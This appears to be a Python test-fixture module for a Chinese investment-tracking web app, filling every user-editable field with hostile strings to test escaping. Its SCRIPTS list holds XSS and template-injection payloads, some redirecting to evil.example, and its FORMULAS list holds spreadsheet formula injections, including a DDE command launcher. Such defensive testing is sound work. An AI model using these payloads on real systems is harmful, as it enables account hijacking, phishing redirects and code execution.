"""Texts that people with bad intentions type, and a city in which they have typed them everywhere."""

import json
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

from cast import NOW, YI, Cast
from dictionary import dictionary

from doors import hostile_rooms as rooms
from zhaoshang.assessments.assessing import show_assessment, start_assessment
from zhaoshang.assessments.entering import enter_inputs
from zhaoshang.assessments.lighting import compute_lights, explain_light
from zhaoshang.assessments.objecting import raise_objection, reject_objection
from zhaoshang.assessments.regulating import draft_regulation, issue_regulation
from zhaoshang.assessments.rules.states import Purpose
from zhaoshang.bulletins.actions import check_text
from zhaoshang.bulletins.writing import Head, draft_bulletin, publish_bulletin, revise_bulletin, withdraw_bulletin
from zhaoshang.capital.actions import attach, declare, declare_opposite, withdraw
from zhaoshang.capital.counting import draft_rules
from zhaoshang.capital.evidence import store
from zhaoshang.capital.models import Payment
from zhaoshang.capital.rules import Kind, Proof
from zhaoshang.capital.verification import return_
from zhaoshang.common.periods import Period, parse_month
from zhaoshang.enterprises.actions import register_enterprise
from zhaoshang.figures.actions import enter_external
from zhaoshang.people.actions import issue_token, open_account
from zhaoshang.plans.actions import (
    NewItem,
    add_campaign,
    add_item,
    add_plan,
    add_year,
    change_item,
    report_progress,
    set_target,
    tag_projects,
)
from zhaoshang.plans.rules import Standing
from zhaoshang.projects.actions import NewProject, register_project
from zhaoshang.questions.actions import save_question
from zhaoshang.questions.rules import parse
from zhaoshang.questions.subjects import SUBJECTS
from zhaoshang.regions.actions import add_unit, ask_reopen, close_month
from zhaoshang.regions.kept_lists import LISTS
from zhaoshang.regions.rules import Shared
from zhaoshang.regions.saved_views import save_view

MARK = "zsx"
SCRIPTS = [
    "<script>alert('zsx')</script>",
    "<ScRiPt>alert(`zsx`)</sCrIpT>",
    "</script><script>alert('zsx')</script>",
    "</title><script>alert('zsx')</script>",
    "</textarea><script>alert('zsx')</script>",
    "</style><script>alert('zsx')</script>",
    "<img src=x onerror=alert('zsx')>",
    "<img/src='x'/onerror='alert(\"zsx\")'>",
    "<svg onload=alert('zsx')>",
    "<svg><script>alert('zsx')</script></svg>",
    "<svg><animate onbegin=alert('zsx') attributeName=x>",
    "<math><mi xlink:href='javascript:alert(\"zsx\")'>x",
    "<iframe src='javascript:alert(\"zsx\")'>",
    "<iframe srcdoc='<script>alert(\"zsx\")</script>'>",
    "<object data='javascript:alert(\"zsx\")'>",
    "<embed src='javascript:alert(\"zsx\")'>",
    "<a href='javascript:alert(\"zsx\")'>x</a>",
    "<base href='https://evil.example/zsx/'>",
    "<form action='https://evil.example/zsx'><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/zsx'>",
    "<link rel=stylesheet href='https://evil.example/zsx.css'>",
    "<style>body{display:none}/*zsx*/</style>",
    "<input autofocus onfocus=alert('zsx')>",
    "<details open ontoggle=alert('zsx')>",
    "<video><source onerror=alert('zsx')></video>",
    "<marquee onstart=alert('zsx')>",
    "<body onload=alert('zsx')>",
    "<div hx-get='/desk/' hx-trigger='load' hx-on:click='alert(\"zsx\")'>",
    "<div style='position:fixed;inset:0'>zsx</div>",
    "\"><script>alert('zsx')</script>",
    "'><script>alert('zsx')</script>",
    '" onmouseover="alert(\'zsx\')" x="',
    "' autofocus onfocus='alert(\"zsx\")' x='",
    "` onmouseover=alert('zsx') `",
    "javascript:alert('zsx')",
    "data:text/html,<script>alert('zsx')</script>",
    "{{7*7}}zsx",
    "{{ request.user.password }}zsx{% include 'zsx' %}",
    "${alert('zsx')}#{7*7}",
    '<!--<img src=\'--><img src=x onerror=alert("zsx")>',
    "<noscript><p title='</noscript><img src=x onerror=alert(\"zsx\")>'>",
    "＜script＞alert('zsx')＜/script＞",
    "&lt;script&gt;alert('zsx')&lt;/script&gt;",
    "\u202e<b>zsx</b>\u202c",
]
FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=zsx",
]


def infest(cast: Cast, texts: list[str]) -> None:
    """Fill every text that a person can fill, each text in each kind of field of projects and payments."""
    dictionary(cast)
    for number, text in enumerate(texts):
        _project_of(cast, text, number)
    rooms.enterprises(cast, texts)
    _people_and_places(cast, texts)
    _statements(cast, texts)
    _bulletins(cast, texts)
    rooms.outreach(cast, texts)
    for text in texts:
        printable = "".join(letter for letter in text if letter.isprintable())[:80]
        question = parse({"rows": ["payer"], "payer": [printable]}, SUBJECTS)
        save_question(city=cast.city, question=question, title=printable, shared=True, by=cast.leader, at=NOW)
    for place, text in enumerate(texts):
        printable = f"{place} " + "".join(letter for letter in text if letter.isprintable())
        page = list(LISTS)[place % len(LISTS)]
        asked = {"page": page, "title": printable[:60], "query": [("q", text)], "shared": Shared.CITY}
        save_view(city=cast.city, by=cast.leader, at=NOW, **asked)
    _assessments(cast, texts)
    rooms.duties(cast, texts)
    rooms.opportunities(cast, texts)
    rooms.leads(cast, texts)
    rooms.articles(cast, texts)
    rooms.contracts(cast, texts)
    rooms.local_rules(cast, texts)
    rooms.holds(cast, texts)


def _project_of(cast: Cast, text: str, number: int) -> None:
    firm = register_enterprise(city=cast.city, name=text, by=cast.officer, at=NOW)
    new = NewProject(
        code=f"9-{number}", name=text, source_code="310000", industry="C", contract_fen=5 * YI, investor=text, signed_on=date(2023, 2, 1),
        source=text, site=text,
    )  # fmt: skip
    project = register_project(city=cast.city, unit=cast.east, enterprise=firm, new=new, by=cast.officer, at=NOW)
    rooms.talk_about(cast, project, text, number)
    said = {
        "project": project,
        "payer": text,
        "bank_serial": f"{number}{text}"[:60],
        "note": text,
        "kind": Kind.EQUIPMENT,
    }
    payment = declare(draft=cast.draft(**said), by=cast.officer, at=NOW)
    pdf = f"%PDF-1.4\n% {number}\n%%EOF\n".encode()
    file = store(city=cast.city, content=pdf, name=f"{text}.pdf", by=cast.officer, at=NOW)
    attach(payment=payment, file=file, kind=Proof.OTHER, by=cast.officer, at=NOW)
    payment = Payment.objects.of(cast.city).select_related("city").get(pk=payment.pk)
    if number % 4 == 0:
        return_(payment=payment, revision=payment.revision, reason=text, by=cast.verifier, at=NOW)
    elif number % 4 == 1:
        withdraw(payments=[payment], reason=text, by=cast.officer, at=NOW)


def _people_and_places(cast: Cast, texts: list[str]) -> None:
    for number, text in enumerate(texts):
        open_account(
            city=cast.city,
            username=f"u{number}",
            display_name=text[:40],
            password="sample-password",
            by=cast.security,
            at=NOW,
        )
        issue_token(city=cast.city, user=cast.leader, name=text[:60], can_write=False, days=9, by=cast.leader, at=NOW)
    add_unit(
        city=cast.city, by=None, at=NOW, code="odd", name=texts[0][:40], short_name=texts[1][:12], name_en=texts[2][:60],
        position=9, valid_from=date(2020, 1, 1),
    )  # fmt: skip
    month = parse_month("2022-01")
    close_month(city=cast.city, number=month, by=cast.statistician, at=NOW)
    ask_reopen(city=cast.city, number=month, reason=texts[0], by=cast.statistician, at=NOW)


def _statements(cast: Cast, texts: list[str]) -> None:
    from zhaoshang.figures.queries import indicator_of

    indicator = indicator_of(cast.city, "capital_in_place")
    for number, text in enumerate(texts):
        enter_external(
            indicator=indicator, period=Period.parse("2023Q1"), place_code=f"99{number:04}", place_name=text[:40], source=text,
            dated=date(2023, 4, 1), value=YI, by=cast.statistician, at=NOW,
        )  # fmt: skip
    set_target(
        city=cast.city, indicator=indicator.code, year=2023, unit=cast.east, amount=YI, document=texts[0], issued_on=date(2023, 1, 1),
        by=cast.statistician, at=NOW,
    )  # fmt: skip
    _plans(cast, texts)
    rules = {"rules": [{"no": "1", "kind": "source", "counts": ["outside_province"], "text": text} for text in texts]}
    draft_rules(
        city=cast.city, code="odd", title=texts[0], content=rules, source=texts[1], valid_from=parse_month("2023-04"),
        by=cast.statistician, at=NOW,
    )  # fmt: skip
    verified = cast.verified()
    declare_opposite(
        payment=verified,
        amount_fen=YI // 2,
        report_month=parse_month("2023-03"),
        reason=texts[0],
        by=cast.officer,
        at=NOW,
    )
    said = "\n".join(f"{text}，2023年一季度到位内资9亿元。" for text in texts)
    check_text(city=cast.city, text=said, title=texts[0][:120], source=f"{texts[1]}.txt", by=cast.leader, at=NOW)


def _plans(cast: Cast, texts: list[str]) -> None:
    """A plan whose every name is hostile, a measure and a campaign for each text, a report and a change."""
    said: dict[str, Any] = {"issued_on": date(2023, 1, 1), "by": cast.statistician, "at": NOW}
    plan = add_plan(city=cast.city, code="odd", title=texts[0], years=(2023, 2025), document=texts[1], **said)
    year = add_year(plan=plan, year=2023, title=texts[2], document=texts[3], **said)
    for number, text in enumerate(texts):
        new = NewItem(title=text, owner_department=text[:60])
        item = add_item(year_plan=year, above=None, new=new, by=cast.statistician, at=NOW)
        report_progress(
            item=item, reported_on=date(2023, 2, 1), standing=Standing.DONE, text=text, by=cast.statistician, at=NOW
        )
        change_item(item=item, new=NewItem(title=text), reason=text, by=cast.statistician, at=NOW)
        campaign = add_campaign(
            city=cast.city, code=f"odd-{number}", year=2023, name=text[:80], industry=text[:80], lead_department=text[:60],
            starts_on=date(2023, 1, 1), ends_on=date(2023, 12, 31), document=text, target_fen=YI, by=cast.statistician, at=NOW,
        )  # fmt: skip
        tag_projects(campaign=campaign, projects=[cast.plant], by=cast.statistician, at=NOW)


def _bulletins(cast: Cast, texts: list[str]) -> None:
    from zhaoshang.bulletins.blocks import unbound

    plain = [text for text in texts if "{{" not in text]
    for number in range(3):
        bulletin = draft_bulletin(
            city=cast.city,
            period=Period.parse("2023Q1"),
            issuer=plain[number],
            dated=date(2023, 4, 10),
            by=cast.statistician,
            at=NOW,
        )
        blocks = [*bulletin.blocks, *({"kind": "paragraph", "text": text} for text in plain)]
        head = Head(
            title=plain[number], number="", issuer=plain[number + 1], recipients=plain[number + 2], dated=bulletin.dated
        )
        bulletin = revise_bulletin(
            bulletin=bulletin, revision=bulletin.revision, head=head, blocks=blocks, by=cast.statistician, at=NOW
        )
        if number:
            waived = [one.context for one in unbound(blocks)]
            bulletin = publish_bulletin(
                bulletin=bulletin, revision=bulletin.revision, waived=waived, by=cast.statistician, at=NOW
            )
        if number == 2:
            withdraw_bulletin(bulletin=bulletin, reason=plain[3], by=cast.statistician, at=NOW)


def _assessments(cast: Cast, texts: list[str]) -> None:
    """Regulations, an assessment with objections, entered numbers and lights, all in these words."""
    odd = json.dumps(texts[0], ensure_ascii=False)[:60] if len(texts[0]) < 50 else '"zsx"'
    article = f'no = "一"\nname = {odd}\ntext = {json.dumps(" ".join(texts)[:900], ensure_ascii=False)}\n'
    entered = f'[[entered]]\ncode = "odd"\nname = {odd}\nunit = "<b>"\nabsent = 0\n'
    scores = f'{entered}[[line]]\n{article}kind = "ratio"\nweight = 9\ninput = "entered.odd"\n'
    cases = 'otherwise = "green"\ncases = [{ colour = "red", when = ["entered.odd > 0"] }]\n'
    texts_of = {Purpose.SCORES: scores, Purpose.LIGHTS: f"{entered}[[light]]\n{article}{cases}"}
    made = {}
    for purpose, text in texts_of.items():
        draft = draft_regulation(
            city=cast.city, code=f"odd-{purpose}", purpose=purpose, title=texts[0][:120], source=texts[1], text=text,
            valid_from=parse_month("2023-01"), by=cast.statistician, at=NOW,
        )  # fmt: skip
        made[purpose] = issue_regulation(regulation=draft, document=texts[2][:120], by=cast.statistician, at=NOW)
    quarter, today = Period.parse("2023Q1"), date(2023, 4, 3)
    for place in range(3):
        enter_inputs(
            city=cast.city, code="odd", period=quarter, values={cast.east: Decimal(1)}, document=texts[place][:200],
            note=texts[place], by=cast.statistician, at=NOW,
        )  # fmt: skip
    one = start_assessment(
        city=cast.city,
        regulation=made[Purpose.SCORES],
        period=quarter,
        title=texts[3][:120],
        by=cast.statistician,
        at=NOW,
    )
    one = show_assessment(
        assessment=one, objections_from=today, objections_until=today + timedelta(days=9000), today=today,
        by=cast.statistician, at=NOW,
    )  # fmt: skip
    for text in texts[:4]:
        given = {"assessment": one, "unit": cast.east, "article": "一", "reason": text, "today": today}
        objection = raise_objection(**given, by=cast.officer, at=NOW)
        reject_objection(objection=objection, answer=text, by=cast.statistician, at=NOW)
    for light in compute_lights(regulation=made[Purpose.LIGHTS], month=quarter.last, by=cast.statistician, at=NOW):
        explain_light(light=light, text=texts[0], by=cast.officer, at=NOW)
